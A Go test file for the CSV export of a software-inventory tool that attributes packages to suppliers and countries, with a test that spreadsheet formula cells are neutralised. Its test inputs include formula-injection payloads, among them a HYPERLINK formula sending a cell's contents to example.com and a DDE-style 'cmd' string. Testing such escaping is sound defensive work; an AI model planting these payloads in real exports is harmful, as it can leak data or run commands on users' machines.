package report_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/embargo-dev/embargo/inventory"
	"github.com/embargo-dev/embargo/report"
)

// readCSV parses CSV output into one map per row, keyed by column.
func readCSV(t *testing.T, out []byte) []map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v", err)
	}
	if diff := cmp.Diff(report.CSVHeader, recs[0]); diff != "" {
		t.Fatalf("header (-want +got):\n%s", diff)
	}
	var rows []map[string]string
	for _, rec := range recs[1:] {
		m := map[string]string{}
		for i, c := range rec {
			if c != "" {
				m[report.CSVHeader[i]] = c
			}
		}
		rows = append(rows, m)
	}
	return rows
}

func TestCSVRows(t *testing.T) {
	r := fixedReport(t)
	rows := readCSV(t, encode(t, report.CSV{}, r))
	if len(rows) != len(r.Items)+len(r.Unknowns) {
		t.Fatalf("%d rows, want one per item (%d) and unknown (%d)", len(rows), len(r.Items), len(r.Unknowns))
	}
	byRef := map[string]map[string]string{}
	for _, row := range rows {
		byRef[row["ref"]] = row
	}
	kesl := r.Items[1]
	for _, tc := range []struct {
		ref  string
		want map[string]string
	}{
		{"/components/0", map[string]string{
			"status": "restricted", "item_id": kesl.ID, "name": "kesl", "version": "11.2.0.4528", "type": "package", "ecosystem": "deb",
			"source": fixture, "ref": "/components/0",
			"product_id": "kaspersky-endpoint-security-linux", "product": "Kaspersky Endpoint Security for Linux",
			"supplier_id": "kaspersky-ao", "supplier": "AO Kaspersky Lab", "supplier_country": "RU",
			"controlling_country": "RU", "control_chain": "kaspersky-ao", "confidence": "high", "score": "95",
			"evidence": "purl=pkg:deb/debian/kesl@11.2.0.4528?arch=amd64~deb_package:kesl",
			"tier":     "product", "decided_by": "deb_package:kesl", "local": "false",
			"basis": "the package name as installed; names are not reserved, so each is checked against the supplier's own repository or documentation",
		}},
		{"/components/2", map[string]string{
			"status": "not-attributed", "item_id": r.Items[4].ID, "name": "left-pad", "version": "1.3.0", "type": "library", "ecosystem": "npm",
			"source": fixture, "ref": "/components/2",
		}},
		{"/components/3", map[string]string{
			"status": "unknown", "source": fixture, "ref": "/components/3",
			"reason": "no name, package URL, CPE, supplier or location to attribute it by",
		}},
	} {
		if diff := cmp.Diff(tc.want, byRef[tc.ref]); diff != "" {
			t.Errorf("row %s (-want +got):\n%s", tc.ref, diff)
		}
	}
	agent := byRef["/components/1"]
	if agent["status"] != "restricted" || agent["supplier_id"] != "kaspersky-ao" || agent["product_id"] != "" {
		t.Errorf("the application published by «Лаборатория Касперского» should be attributed to kaspersky-ao without a product: %v", agent)
	}
}

// TestCSVFormulaInjection checks that cells a spreadsheet would evaluate
// are neutralised, whatever column they are in, and others are not.
func TestCSVFormulaInjection(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("https://example.com/?"&A1,"x")`, `'=HYPERLINK("https://example.com/?"&A1,"x")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"-1-1", "'-1-1"},
		{"-12", "-12"}, // a negative number is not a formula
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"cmd|' /C calc'!A0", "cmd|' /C calc'!A0"},
		{"a=b", "a=b"},
		{"plain", "plain"},
		{"Лаборатория", "Лаборатория"},
	} {
		t.Run(tc.in, func(t *testing.T) {
			it := &inventory.Item{ID: "I-1", Name: tc.in, Version: tc.in, Type: inventory.Application,
				Location: inventory.Location{Source: tc.in, Ref: tc.in, Host: tc.in}}
			r := &report.Report{
				Items:    []report.Entry{{Item: it}},
				Unknowns: []inventory.Unknown{{Location: inventory.Location{Source: tc.in}, Name: tc.in, Reason: tc.in}},
			}
			rows := readCSV(t, encode(t, report.CSV{}, r))
			want := []map[string]string{
				{"status": "not-attributed", "item_id": "I-1", "name": tc.want, "version": tc.want, "type": "application", "source": tc.want, "ref": tc.want, "host": tc.want},
				{"status": "unknown", "name": tc.want, "source": tc.want, "reason": tc.want},
			}
			if diff := cmp.Diff(want, rows); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func TestCSVEmpty(t *testing.T) {
	rows := readCSV(t, encode(t, report.CSV{}, &report.Report{}))
	if len(rows) != 0 {
		t.Errorf("rows for an empty report: %v", rows)
	}
}
